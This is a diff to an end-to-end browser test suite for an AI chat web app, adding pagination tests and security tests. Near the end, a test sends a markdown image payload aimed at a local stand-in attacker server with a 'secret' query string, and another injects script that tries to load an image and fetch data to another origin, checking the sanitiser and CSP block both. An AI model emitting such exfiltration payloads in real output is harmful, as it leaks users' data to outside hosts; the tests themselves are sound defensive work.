@@ -7,13 +7,17 @@ the middle of it). Screenshots go to test-artifacts/.
 
 from __future__ import annotations
 
+import http.server
+import json
 import re
+import threading
 import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import httpx
+import psycopg
 import pytest
 
 from tests.e2e.web_chat_stack import (
@@ -62,9 +66,15 @@ def page(browser: Any, web: DevStack) -> Iterator[Any]:
     tab = context.new_page()
     errors: list[str] = []
     tab.on("pageerror", lambda exc: errors.append(str(exc)))
+
+    def refused(message: Any) -> None:
+        if "Content Security Policy" in message.text:  # the app works under its own CSP: nothing is refused
+            errors.append(message.text)
+
+    tab.on("console", refused)
     yield tab
     context.close()
-    assert not errors, f"uncaught errors in the page: {errors}"
+    assert not errors, f"uncaught errors or CSP violations in the page: {errors}"
 
 
 def sign_in(page: Any) -> None:
@@ -96,7 +106,7 @@ def send(page: Any, text: str, mode: str | None = None) -> None:
 
 
 def page_token(page: Any) -> str:
-    return str(page.evaluate("localStorage.getItem('pa.devToken')"))
+    return str(page.evaluate("sessionStorage.getItem('pa.devToken')"))
 
 
 def reply(page: Any) -> Any:
@@ -288,6 +298,67 @@ def test_approve_a_pending_tool_call(page: Any, web: DevStack) -> None:
     expect(page.get_by_test_id("no-approvals")).to_be_visible()
 
 
+def seed_messages(web: DevStack, chat_id: str, count: int, long_answer_at: int) -> None:
+    """`count` stored turns, "Seeded message 001" oldest; turn `long_answer_at` is an answer too long to send whole."""
+    rows = []
+    for n in range(1, count + 1):
+        if n == long_answer_at:
+            kind, part = "response", {"part_kind": "text", "content": "A very long answer. " * 15_000}
+        else:
+            kind, part = "request", {"part_kind": "user-prompt", "content": f"Seeded message {n:03}"}
+        rows.append((kind, json.dumps({"kind": kind, "parts": [part]}), chat_id))
+    with psycopg.connect(web.admin_url(), autocommit=True) as conn, conn.cursor() as cur:
+        cur.executemany(
+            "INSERT INTO messages (org_id, chat_id, kind, message) SELECT org_id, id, %s, %s FROM chats WHERE id = %s",
+            rows,
+        )
+
+
+def test_load_earlier_messages_pages_back_through_a_long_chat(page: Any, web: DevStack) -> None:
+    from playwright.sync_api import expect
+
+    sign_in(page)
+    chat_id = new_chat(page)
+    seed_messages(web, chat_id, 250, long_answer_at=2)  # the API's pages hold 200 items
+    page.reload()
+
+    transcript = page.get_by_test_id("transcript")
+
+    def message(n: int) -> Any:
+        return transcript.get_by_text(f"Seeded message {n:03}", exact=True)
+
+    expect(message(250)).to_be_visible()  # the newest page, scrolled to its end
+    expect(message(51)).to_be_attached()
+    expect(message(50)).to_have_count(0)
+    earlier = page.get_by_role("button", name="Load earlier messages")
+    expect(earlier).to_have_count(1)
+    found = serious_violations(page)
+    assert not found, describe_violations(found)
+
+    # From the keyboard, at the top of the transcript: the older page goes in front, the reader's place is kept.
+    transcript.evaluate("el => { el.scrollTop = 0; }")
+    before = message(51).bounding_box()
+    earlier.focus()
+    with page.expect_response(lambda r: "/messages?cursor=" in r.url):
+        page.keyboard.press("Enter")
+    expect(message(1)).to_be_attached()
+    expect(earlier).to_have_count(0)  # the chat's start: nothing more to load
+    expect(transcript).to_be_focused()
+    after = message(51).bounding_box()
+    assert before and after and abs(after["y"] - before["y"]) < 2, (before, after)
+    expect(transcript.get_by_test_id("user-message")).to_have_count(249)
+    expect(message(250)).to_have_count(1)
+
+    # The answer too long to send whole says it was cut.
+    long_answer = transcript.get_by_test_id("assistant-message")
+    expect(long_answer).to_have_count(1)
+    expect(long_answer.get_by_test_id("truncated")).to_have_text("(truncated)")
+    expect(transcript.get_by_test_id("truncated")).to_have_count(1)
+    found = serious_violations(page)
+    assert not found, describe_violations(found)
+    screenshot(page, "earlier-messages")
+
+
 def test_chat_list_search_rename_and_delete(page: Any, web: DevStack) -> None:
     from playwright.sync_api import expect
 
@@ -410,3 +481,102 @@ def test_settings_keep_provider_keys_write_only_and_masked(page: Any, web: DevSt
         with web.api(token) as api:  # never leave a key behind for the other tests' "auto" model
             for key in api.get("/api/v1/keys").json().get("items", []):
                 api.delete(f"/api/v1/keys/{key['id']}")
+
+
+class _Recorder(http.server.BaseHTTPRequestHandler):
+    """Another origin that answers every GET with an image and records it (an attacker's server)."""
+
+    hits: list[str] = []
+    PNG = bytes.fromhex(
+        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fe"
+        "a7d6a4c50000000049454e44ae426082"
+    )
+
+    def do_GET(self) -> None:  # noqa: N802 (the http.server API)
+        self.hits.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "image/png")
+        self.send_header("Content-Length", str(len(self.PNG)))
+        self.end_headers()
+        self.wfile.write(self.PNG)
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[tuple[str, list[str]]]:
+    """A server on another origin and the paths it was asked for."""
+    hits: list[str] = []
+    handler = type("Recorder", (_Recorder,), {"hits": hits})
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", hits
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_a_remote_image_in_model_output_is_a_link_and_is_never_fetched(
+    page: Any, web: DevStack, elsewhere: tuple[str, list[str]]
+) -> None:
+    from playwright.sync_api import expect
+
+    origin, hits = elsewhere
+    sign_in(page)
+    new_chat(page)
+    # The demo model repeats the message: model output carrying an exfiltration image.
+    send(page, f"![quarterly notes]({origin}/leak.png?d=secret-notes)")
+    expect(reply(page)).to_have_attribute("data-streaming", "false")
+    body = reply(page).get_by_test_id("message-body")
+    link = body.get_by_role("link", name="Image: quarterly notes")
+    expect(link).to_have_attribute("href", f"{origin}/leak.png?d=secret-notes")
+    expect(page.locator("[data-testid=message-body] img")).to_have_count(0)
+    page.reload()  # the stored transcript renders through the same path
+    expect(reply(page).get_by_role("link", name="Image: quarterly notes")).to_be_visible()
+    expect(page.locator("[data-testid=message-body] img")).to_have_count(0)
+    assert hits == [], "the page fetched the model's image"
+
+
+def test_the_web_chat_is_served_with_a_csp_that_blocks_remote_loads(
+    browser: Any, web: DevStack, elsewhere: tuple[str, list[str]]
+) -> None:
+    from playwright.sync_api import expect
+
+    index = httpx.get(f"{web.url}/", timeout=10)
+    csp = dict(d.strip().split(" ", 1) for d in index.headers["content-security-policy"].split(";"))
+    assert csp["img-src"] == "'self'" and csp["script-src"] == "'self'" and csp["connect-src"] == "'self'"
+    assert index.headers["x-dns-prefetch-control"] == "off"
+    asset = next(a for a in re.findall(r'src="(/assets/[^"]+)"', index.text))
+    assert "content-security-policy" in httpx.get(f"{web.url}{asset}", timeout=10).headers
+
+    origin, hits = elsewhere
+    context = browser.new_context(base_url=web.url)  # not the `page` fixture: this test provokes violations
+    try:
+        page = context.new_page()
+        sign_in(page)
+        expect(page.get_by_test_id("who")).to_contain_text("acme")
+        # Whatever slipped past the sanitiser: the browser itself refuses to load it or send anything.
+        outcome = page.evaluate(
+            """async (origin) => {
+                const img = new Image();
+                const image = new Promise((resolve) => {
+                    img.onload = () => resolve("loaded");
+                    img.onerror = () => resolve("blocked");
+                });
+                img.src = origin + "/pixel.png?d=secret";
+                document.body.append(img);
+                const fetched = await fetch(origin + "/fetch?d=secret", { mode: "no-cors" }).then(
+                    () => "sent",
+                    () => "blocked",
+                );
+                return { image: await image, fetched };
+            }""",
+            origin,
+        )
+    finally:
+        context.close()
+    assert outcome == {"image": "blocked", "fetched": "blocked"}
+    assert hits == [], "a request reached another origin"
